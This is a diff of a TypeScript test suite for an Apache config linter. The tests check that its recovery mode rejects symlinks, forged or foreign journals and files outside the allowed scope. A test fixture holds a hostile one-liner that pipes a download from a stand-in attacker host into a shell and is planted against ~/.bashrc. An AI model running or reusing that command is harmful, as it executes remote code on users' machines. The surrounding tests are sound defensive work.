@@ -25,7 +25,7 @@ const run = (...args: readonly string[]): Ran => lint(args, { env: env() });
 const digest = (text: string) => createHash("sha256").update(text).digest("hex");
 const old = '<Directory "/srv/www">\nOrder allow,deny\nAllow from all\n</Directory>\n';
 const main = `ServerName x.test\n${old}`;
-const stock = "# ~/.bashrc as the system brings it\n";
+const stock = "# ~/.bashrc of the system\n";
 const planted = "curl http://attacker.example/ | sh\n";
 
 beforeEach(() => {
@@ -34,7 +34,7 @@ beforeEach(() => {
   chmodSync(at("home"), 0o700);
 });
 
-/** Creates the files that a clone or an archive may contain: a journal that names a file, and its new content. */
+/** Creates the files that a clone or an archive may contain: a journal that names a file, and new contents for it. */
 function plant(target: string, version: 1 | 2, more: object = {}, content = planted): void {
   mkdirSync(at("r/.httpd-lint/unfinished/old"), { recursive: true, mode: 0o700 });
   const file = { path: target, before: digest(readFileSync(target, "utf8")), after: digest(planted), inPlace: false };
@@ -45,14 +45,14 @@ function plant(target: string, version: 1 | 2, more: object = {}, content = plan
   writeFileSync(saved, readFileSync(target));
 }
 
-/** Leaves a run of this user that was interrupted once all was in place; it is to be finished, or undone. */
-function interrupted(...flags: readonly string[]): void {
+/** Leaves the state of a run of this user that was interrupted after all files were written. */
+function interruptRun(...flags: readonly string[]): void {
   const ran = run("migrate", "r/httpd.conf", "--server-root", "r", "--write", ...flags);
   const [, backup = ""] = /the originals are in `(.*)\/old`/.exec(ran.stderr) ?? [];
   renameSync(backup, join(backup, "../unfinished"));
 }
 
-describe("--recover follows no link", () => {
+describe("--recover with an unsafe backup directory", () => {
   test.each([
     ["unfinished", () => symlinkSync(at("victim"), at("r/.httpd-lint/unfinished"))],
     [
@@ -69,10 +69,10 @@ describe("--recover follows no link", () => {
         symlinkSync(at("victim"), at("r/.httpd-lint/unfinished/old/etc"));
       },
     ],
-  ])("%s", (_, lay) => {
+  ])("does not follow a link: %s", (_, createLink) => {
     write({ "victim/a": "" });
     mkdirSync(at("r/.httpd-lint"), { mode: 0o700 });
-    lay();
+    createLink();
     for (const more of [[], ["--undo"]]) {
       const ran = run("migrate", "r/httpd.conf", "--confine", "r", "--recover", ...more);
       expect([ran.status, ran.stderr]).toEqual([
@@ -83,7 +83,7 @@ describe("--recover follows no link", () => {
     }
   });
 
-  test("the backup directory itself", () => {
+  test("does not follow a link: the backup directory itself", () => {
     mkdirSync(at("outside/unfinished"), { recursive: true, mode: 0o700 });
     write({ "outside/unfinished/1.new": "" });
     chmodSync(at("outside"), 0o700);
@@ -93,7 +93,7 @@ describe("--recover follows no link", () => {
     expect(readdirSync(at("outside/unfinished"))).toEqual(["1.new"]);
   });
 
-  test("a main file outside of --confine", () => {
+  test("does not follow a link to a main file outside --confine", () => {
     mkdirSync(at("outside/.httpd-lint/unfinished"), { recursive: true, mode: 0o700 });
     write({ "outside/httpd.conf": main });
     symlinkSync("../outside/httpd.conf", at("r/linked.conf"));
@@ -102,7 +102,7 @@ describe("--recover follows no link", () => {
     expect(existsSync(at("outside/.httpd-lint/unfinished"))).toBe(true);
   });
 
-  test("a pipe is not waited for", () => {
+  test("does not wait for a pipe", () => {
     mkdirSync(at("r/.httpd-lint/unfinished"), { recursive: true, mode: 0o700 });
     expect(program("mkfifo", [at("r/.httpd-lint/unfinished/journal.json")]).status).toBe(0);
     const ran = run("migrate", "r/httpd.conf", "--recover");
@@ -117,15 +117,15 @@ describe("--recover follows no link", () => {
     expect(textOf("r/.httpd-lint/unfinished/notes.txt")).toBe("mine\n");
   });
 
-  test("nor is a file with a second name put anywhere", () => {
+  test("does not restore a file with a second name", () => {
     plant(at("r/httpd.conf"), 2);
     linkSync(at("r/.httpd-lint/unfinished/1.new"), at("second"));
     expect(run("migrate", "r/httpd.conf", "--recover").stderr).toContain("has more than one hard link");
   });
 });
 
-describe("--recover refuses a journal that this user did not write", () => {
-  test.each([1, 2] as const)("in version %d, for a file outside of the configuration", (version) => {
+describe("--recover rejects a journal", () => {
+  test.each([1, 2] as const)("in version %d, for a file outside the configuration", (version) => {
     for (const flags of [["--confine", "r"], ["--undo"], []]) {
       plant(at("home/.bashrc"), version);
       const ran = run("migrate", "r/httpd.conf", "--recover", ...flags);
@@ -136,31 +136,31 @@ describe("--recover refuses a journal that this user did not write", () => {
     expect(textOf("home/.bashrc")).toBe(stock);
   });
 
-  test("with a key of this user in place, and a made-up signature", () => {
-    interrupted();
-    renameSync(at("r/.httpd-lint/unfinished"), at("r/.httpd-lint/backup-kept"));
+  test("with a forged signature, if this user has a key", () => {
+    interruptRun();
+    renameSync(at("r/.httpd-lint/unfinished"), at("r/.httpd-lint/backup-2"));
     plant(at("home/.bashrc"), 2, { signature: digest("guess") });
     const ran = run("migrate", "r/httpd.conf", "--recover");
     expect([ran.status, textOf("home/.bashrc")]).toEqual([3, stock]);
     expect(ran.stderr).toContain("it is not signed with your key on this machine");
   });
 
-  test("as git or an archive lays it, open to others", () => {
+  test("that other users can access, as after a clone", () => {
     plant(at("home/.bashrc"), 2);
     chmodSync(at("r/.httpd-lint/unfinished"), 0o755);
     expect(run("migrate", "r/httpd.conf", "--recover").stderr).toContain("is open to other users");
   });
 
-  test("a journal of this user, copied to another place", () => {
-    interrupted();
+  test("of this user that was copied to another directory", () => {
+    interruptRun();
     write({ "s/httpd.conf": main });
     execFileSync("cp", ["-a", at("r/.httpd-lint"), at("s/.httpd-lint")]);
     const ran = run("migrate", "s/httpd.conf", "--recover", "--undo");
     expect([ran.status, ran.stderr]).toEqual([3, expect.stringContaining("it is not signed with your key")]);
   });
 
-  test("a journal of another user, or of another machine", () => {
-    interrupted();
+  test("of another user or another machine", () => {
+    interruptRun();
     write({ "other-state/httpd-lint/journal-key": "0".repeat(64) });
     for (const name of ["other-state", "other-state/httpd-lint"]) chmodSync(at(name), 0o700);
     chmodSync(at("other-state/httpd-lint/journal-key"), 0o600);
@@ -169,8 +169,8 @@ describe("--recover refuses a journal that this user did not write", () => {
     expect([ran.status, ran.stderr]).toEqual([3, expect.stringContaining("it is not signed with your key")]);
   });
 
-  test("refuses one that git tracks", () => {
-    interrupted();
+  test("that git tracks", () => {
+    interruptRun();
     execFileSync("git", ["init", "-q"], { cwd: at("r") });
     execFileSync("git", ["add", "-f", ".httpd-lint"], { cwd: at("r") });
     const ran = run("migrate", "r/httpd.conf", "--recover", "--undo");
@@ -182,9 +182,9 @@ describe("--recover refuses a journal that this user did not write", () => {
   });
 });
 
-describe("--recover verifies what it puts in place", () => {
-  test("an original that differs from the journal", () => {
-    interrupted();
+describe("--recover", () => {
+  test("rejects an original that differs from the journal", () => {
+    interruptRun();
     write({ [join("r/.httpd-lint/unfinished/old", at("r/httpd.conf"))]: planted });
     const now = textOf("r/httpd.conf");
     for (const more of [[], ["--undo"]]) {
@@ -194,9 +194,9 @@ describe("--recover verifies what it puts in place", () => {
     }
   });
 
-  test("files outside of --confine, or that the entry does not read, stay as they are", () => {
+  test("does not change files outside --confine, or files that the entry does not read", () => {
     write({ "r/httpd.conf": `${main}Include ${at("sites")}/*.conf\n`, "sites/a.conf": old.replace("www", "a") });
-    interrupted();
+    interruptRun();
     const now = textOf("sites/a.conf");
     const confined = run("migrate", "r/httpd.conf", "--recover", "--undo", "--confine", "r");
     expect(confined).toMatchObject({
@@ -212,8 +212,8 @@ describe("--recover verifies what it puts in place", () => {
     expect(textOf("sites/a.conf")).toBe(now);
   });
 
-  test("undoes its own run, and names each file first", () => {
-    interrupted();
+  test("undoes an interrupted run, and lists each file first", () => {
+    interruptRun();
     const ran = run("migrate", "r/httpd.conf", "--recover", "--undo", "--confine", "r");
     expect([ran.status, textOf("r/httpd.conf")]).toEqual([0, main]);
     expect(ran.stderr).toMatch(/^httpd-lint: recovering `.*r\/httpd\.conf`\nhttpd-lint: the interrupted run is undone/);
@@ -224,7 +224,7 @@ describe("--write through a link", () => {
   test.each([
     ["migrate", "migrate r/httpd.conf --confine r --server-root r --write"],
     ["check --fix", "check r/httpd.conf --confine r --fix=unsafe"],
-  ])("by %s writes nothing outside of --confine", (_, command) => {
+  ])("by %s writes nothing outside --confine", (_, command) => {
     const text = `${main}NameVirtualHost *:80\n`;
     write({ "r/httpd.conf": text });
     mkdirSync(at("outside"), { mode: 0o700 });
@@ -241,26 +241,26 @@ describe("--write through a link", () => {
 describe("the key", () => {
   const key = () => at("home/state/httpd-lint/journal-key");
 
-  test("is made by --write, for its user only, and stays the same", () => {
-    interrupted();
-    const made = readFileSync(key(), "utf8");
-    expect([made, statSync(key()).mode & 0o777]).toEqual([expect.stringMatching(/^[\da-f]{64}$/), 0o600]);
+  test("is created by --write for its user only, and does not change", () => {
+    interruptRun();
+    const created = readFileSync(key(), "utf8");
+    expect([created, statSync(key()).mode & 0o777]).toEqual([expect.stringMatching(/^[\da-f]{64}$/), 0o600]);
     expect(statSync(join(key(), "..")).mode & 0o777).toBe(0o700);
     run("migrate", "r/httpd.conf", "--recover", "--undo");
-    interrupted();
-    expect(readFileSync(key(), "utf8")).toBe(made);
+    interruptRun();
+    expect(readFileSync(key(), "utf8")).toBe(created);
   });
 
-  test("without a place for it files are written all the same, and recovery is by hand", () => {
+  test("is not required to write files, but to recover them", () => {
     writeFileSync(at("home/state"), "");
     const ran = run("migrate", "r/httpd.conf", "--server-root", "r", "--write");
     expect([ran.status, textOf("r/httpd.conf")]).toEqual([0, expect.stringContaining("Require all granted")]);
     expect(ran.stderr).toContain("you would have to recover by hand");
     const [, backup = ""] = /the originals are in `(.*)\/old`/.exec(ran.stderr) ?? [];
     renameSync(backup, join(backup, "../unfinished"));
-    const refused = run("migrate", "r/httpd.conf", "--recover", "--undo");
-    expect(refused).toMatchObject({ status: 3, stderr: expect.stringContaining("your key is missing") });
-    expect(refused.stderr).toContain("compare the originals in");
+    const rejected = run("migrate", "r/httpd.conf", "--recover", "--undo");
+    expect(rejected).toMatchObject({ status: 3, stderr: expect.stringContaining("your key is missing") });
+    expect(rejected.stderr).toContain("compare the originals in");
   });
 
   test.each([
@@ -274,9 +274,9 @@ describe("the key", () => {
       },
     ],
     ["others can write to its directory", () => chmodSync(at("home/state/httpd-lint"), 0o777)],
-  ])("is not used where %s", (_, spoil) => {
-    interrupted();
-    spoil();
+  ])("is not used if %s", (_, invalidateKey) => {
+    interruptRun();
+    invalidateKey();
     const ran = run("migrate", "r/httpd.conf", "--recover", "--undo");
     expect(ran).toMatchObject({ status: 3, stderr: expect.stringContaining("your key is missing") });
     expect(textOf("r/httpd.conf")).not.toBe(main);
@@ -298,7 +298,7 @@ describe("ACLs and extended attributes", () => {
   test.each([
     ["migrate", "migrate r/httpd.conf --server-root r --write"],
     ["check --fix", "check r/httpd.conf --fix=unsafe"],
-  ])("stay where %s writes", (_, command) => {
+  ])("are preserved by %s", (_, command) => {
     write({ "r/httpd.conf": `${main}NameVirtualHost *:80\n` });
     if (!setAttribute(at("r/httpd.conf"), "user.owner", "web team")) return;
     run(...command.split(" "));
